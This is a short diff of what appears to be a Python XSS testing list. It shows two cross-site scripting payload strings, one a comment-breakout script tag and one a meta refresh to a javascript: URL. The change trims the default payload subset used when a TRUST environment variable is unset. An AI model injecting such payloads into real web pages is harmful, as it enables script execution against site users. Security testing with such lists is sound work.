@@ -33,4 +33,4 @@ ALL = [
     f"--><script>{RUN}</script><!--",
     f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
 ]
-PAYLOADS = ALL if os.environ.get("TRUST") == "1" else [ALL[1], ALL[7], ALL[13], ALL[20]]
+PAYLOADS = ALL if os.environ.get("TRUST") == "1" else [ALL[1], ALL[20]]
